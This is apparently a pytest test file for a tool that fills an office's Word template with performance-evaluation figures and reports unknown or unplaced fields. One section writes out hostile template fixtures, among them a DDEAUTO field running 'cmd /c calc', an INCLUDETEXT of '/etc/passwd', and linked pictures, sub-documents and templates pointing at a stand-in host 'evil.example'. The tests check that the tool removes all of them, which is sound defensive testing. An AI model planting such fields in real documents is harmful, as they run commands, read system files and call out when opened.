"""A report on an office's own Word template: filled, bound, and what it lacks told."""

import io
import zipfile
from dataclasses import replace

import docx
import pytest

import papers
from builders import ROOT
from jiheng import documents, usecases
from jiheng.usecases import office
from jiheng.usecases.evaluate import REPORT, EvaluateOptions, composed

SAMPLE = ROOT / "examples" / "bureau-2025.xlsx"


@pytest.fixture(scope="module")
def sample():
    return usecases.check(SAMPLE)


def on_paper(sample, path):
    outcome, files = composed(sample, "", EvaluateOptions(office=False, template=path), None)
    lacking = [f for f in outcome.findings if f.code in ("R70", "R71", "R72", "R73")]
    return files[REPORT], lacking


def written(tmp_path, data, name="模板.docx"):
    path = tmp_path / name
    path.write_bytes(data)
    return path


def test_values_and_parts_go_where_they_are_named(sample, tmp_path):
    report, findings = on_paper(sample, written(tmp_path, papers.letterhead()))
    document = docx.Document(io.BytesIO(report))
    text = "\n".join(p.text for p in document.paragraphs)
    assert document.sections[0].header.paragraphs[0].text == "示例市投资促进局文件"
    assert "示例市投资促进局" in text
    assert "{单位名称}" not in text
    heads = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    assert heads == [
        "一、评价结论", "二、部门整体支出绩效目标实现情况及指标分析",
        "三、存在的问题及改进措施",
    ]  # fmt: skip
    unknown = {f.facts["name"]: f.facts["guesses"] for f in findings if f.code == "R70"}
    assert unknown["总份"] == "总分"
    assert unknown["支出合计"].startswith("支出合计.决算数")
    assert unknown["没有的名称"] == ""
    unplaced = [f.facts["title"] for f in findings if f.code == "R71"]
    assert unplaced[:2] == ["一、部门基本情况", "二、自评工作开展情况"]
    assert "{{总份}}" in text  # stays as it is


@pytest.mark.parametrize("make", [papers.letterhead, papers.boxes])
def test_every_figure_is_bound_and_reads_back(sample, tmp_path, make):
    report, _findings = on_paper(sample, written(tmp_path, make()))
    bound = documents.bound(written(tmp_path, report, "报告.docx"))
    assert len(bound.written) > 100
    standing = {figure.id: figure.text for figure in bound.standing}
    assert standing == {id_: figure.printed for id_, figure in bound.written.items()}
    assert len(bound.standing) == len(standing)


def test_boxes_controls_sections_and_numbered_headings(sample, tmp_path):
    report, findings = on_paper(sample, written(tmp_path, papers.boxes()))
    assert findings == []
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        body = archive.read("word/document.xml").decode()
    assert "dataBinding" not in body
    assert "showingPlcHdr" not in body
    assert body.count("99.43") >= 2  # in the box and in what older programs show
    document = docx.Document(io.BytesIO(report))
    sides = [s.orientation for s in document.sections]
    assert sides.count(1) == 1
    assert document.sections[0].different_first_page_header_footer
    heads = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    assert heads[0] == "部门基本情况"  # the style writes the number


def test_a_report_made_into_a_template_binds_nothing_old(sample, tmp_path):
    first, _findings = on_paper(sample, written(tmp_path, papers.letterhead()))
    document = docx.Document(io.BytesIO(first))
    document.add_paragraph("{{正文}}")
    stream = io.BytesIO()
    document.save(stream)
    again, _findings = on_paper(sample, written(tmp_path, stream.getvalue(), "旧报告.docx"))
    bound = documents.bound(written(tmp_path, again, "报告.docx"))
    assert len({f.id for f in bound.standing}) == len(bound.standing) == len(bound.written)
    with zipfile.ZipFile(io.BytesIO(again)) as archive:
        parts = [archive.read(n) for n in archive.namelist() if n.startswith("customXml/item")]
    assert sum(b"urn:jiheng:figures" in part and b"<figure " in part for part in parts) == 1


def test_a_file_that_is_no_template_leaves_the_report_as_it_is(sample, tmp_path):
    for data in (b"x", b"PK\x03\x04", SAMPLE.read_bytes()):
        report, findings = on_paper(sample, written(tmp_path, data))
        assert [f.code for f in findings] == ["R72"]
        assert report.startswith(b"PK")


RELATION = (
    '<Relationship Id="rCall{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}"{mode}/>'
)
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
OUT = "http://evil.example/"
BLIP = (
    f'<w:p {papers.NS} {R}><w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
    '<wp:extent cx="9525" cy="9525"/><wp:docPr id="91" name="图"/><a:graphic><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><a:blip r:link="rCall1"/>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
PICT = (
    f'<w:p {papers.NS} {R}><w:r><w:pict><v:shape><v:imagedata r:id="rCall1"/></v:shape></w:pict>'
    "</w:r></w:p>"
)


def field(*said, mark="w:instrText"):
    begin, split, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    text = "".join(f'<w:r><{mark} xml:space="preserve">{each}</{mark}></w:r>' for each in said)
    return f"<w:p {papers.NS}>{begin}{text}{split}<w:r><w:t>照旧</w:t></w:r>{end}</w:p>"


CALLS = {  # relation, in which part, and what stands in the text
    "linked picture": ("image", True, "word/document.xml", BLIP),
    "linked VML picture": ("image", True, "word/document.xml", PICT),
    "foreign text": ("aFChunk", True, "word/document.xml", f'<w:altChunk {papers.NS} {R} r:id="rCall1"/>'),
    "sub-document": ("subDocument", True, "word/document.xml",
                     f'<w:p {papers.NS} {R}><w:subDoc r:id="rCall1"/></w:p>'),
    "attached template": ("attachedTemplate", True, "word/settings.xml",
                          f'<w:attachedTemplate {papers.NS} {R} r:id="rCall1"/>'),
    "own foreign text": ("aFChunk", False, "word/document.xml",
                         f'<w:altChunk {papers.NS} {R} r:id="rCall1"/>'),
    "macros": ("vbaProject", False, "word/document.xml", ""),
    "DDE": ("", False, "word/document.xml", field("DDEAUTO cmd /c calc")),
    "DDE in pieces": ("", False, "word/document.xml", field(" DD", "E cmd")),
    "text of a file": ("", False, "word/document.xml", field(' INCLUDETEXT "file:///etc/passwd"')),
    "picture of an address": ("", False, "word/header1.xml", field(f'INCLUDEPICTURE "{OUT}" \\d')),
    "simple field": ("", False, "word/document.xml",
                     f'<w:p {papers.NS}><w:fldSimple w:instr="includepicture {OUT}"><w:r><w:t>照旧'
                     "</w:t></w:r></w:fldSimple></w:p>"),
}  # fmt: skip


def calling(kind, external, part, xml):
    """A template with something in it that Word would fetch or run."""
    document = docx.Document(io.BytesIO(papers.letterhead()))
    stream = io.BytesIO()
    document.save(stream)
    made = io.BytesIO()
    name = part.rpartition("/")[2]
    rels = f"word/_rels/{name}.rels"
    target = OUT if external else "calls.bin"
    mode = ' TargetMode="External"' if external else ""
    relation = RELATION.format(n=1, kind=kind, target=target, mode=mode) if kind else ""
    with zipfile.ZipFile(stream) as source, zipfile.ZipFile(made, "w") as written_:
        names = source.namelist()
        for entry in names:
            data = source.read(entry).decode("utf-8", "surrogateescape")
            if entry == part:
                at = data.index("<w:body>") + 8 if "<w:body>" in data else data.index(">", 60) + 1
                at = data.index(">", data.index("<w:hdr")) + 1 if "<w:hdr" in data else at
                at = data.index(">", data.index("<w:settings")) + 1 if "<w:settings" in data else at
                data = data[:at] + xml + data[at:]
            if entry == rels:
                data = data.replace("</Relationships>", f"{relation}</Relationships>")
            written_.writestr(entry, data.encode("utf-8", "surrogateescape"))
        if rels not in names and kind:
            space = "http://schemas.openxmlformats.org/package/2006/relationships"
            written_.writestr(rels, f'<Relationships xmlns="{space}">{relation}</Relationships>')
        written_.writestr("word/calls.bin", b"x")
    return made.getvalue()


@pytest.mark.parametrize("what", CALLS)
def test_a_report_on_a_template_calls_nobody_and_runs_nothing(sample, tmp_path, what):
    report, findings = on_paper(sample, written(tmp_path, calling(*CALLS[what])))
    assert "R73" in [f.code for f in findings]
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        texts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    for name, text in texts.items():
        for sign in (OUT, "rcall", "ddeauto", "e cmd", "include", "altchunk", "/etc/passwd"):
            assert sign not in text.lower(), (name, sign)
    assert "word/calls.bin" not in texts
    if not CALLS[what][0]:
        assert any("照旧" in text for text in texts.values())  # what it showed last stays
    assert "示例市投资促进局" in texts["word/document.xml"]


def test_a_link_that_one_clicks_stays(sample, tmp_path):
    xml = f'<w:p {papers.NS} {R}><w:hyperlink r:id="rCall1"><w:r><w:t>网站</w:t></w:r></w:hyperlink></w:p>'
    data = calling("hyperlink", True, "word/document.xml", xml)
    report, findings = on_paper(sample, written(tmp_path, data))
    assert "R73" not in [f.code for f in findings]
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        assert OUT in archive.read("word/_rels/document.xml.rels").decode()


@pytest.mark.office
def test_a_template_of_libreoffice_is_filled_too(sample, tmp_path):
    page = "<html><h1>{单位名称}</h1><p>{{正文}}</p><table><tr><td>{总分}</td></tr></table></html>"
    source = tmp_path / "模板.html"
    source.write_text(page, encoding="utf-8")
    data = office.converted(source, ".odt")
    report, findings = on_paper(sample, written(tmp_path, data, "模板.odt"))
    assert {f.code for f in findings} <= {"R71"}
    bound = documents.bound(written(tmp_path, report, "报告.docx"))
    assert len(bound.standing) == len(bound.written) > 100


def test_a_part_that_was_left_out_for_want_of_data_is_no_unknown_name(sample, tmp_path):
    evaluation = replace(sample.scored.evaluation, problems=(), measures=())
    bare = replace(sample, scored=replace(sample.scored, evaluation=evaluation))
    report, findings = on_paper(bare, written(tmp_path, papers.letterhead()))
    vacant = [f for f in findings if f.variant == "vacant"]
    assert [f.facts["name"] for f in vacant] == ["存在的问题及改进措施"]
    text = "".join(p.text for p in docx.Document(io.BytesIO(report)).paragraphs)
    assert "存在的问题" not in text
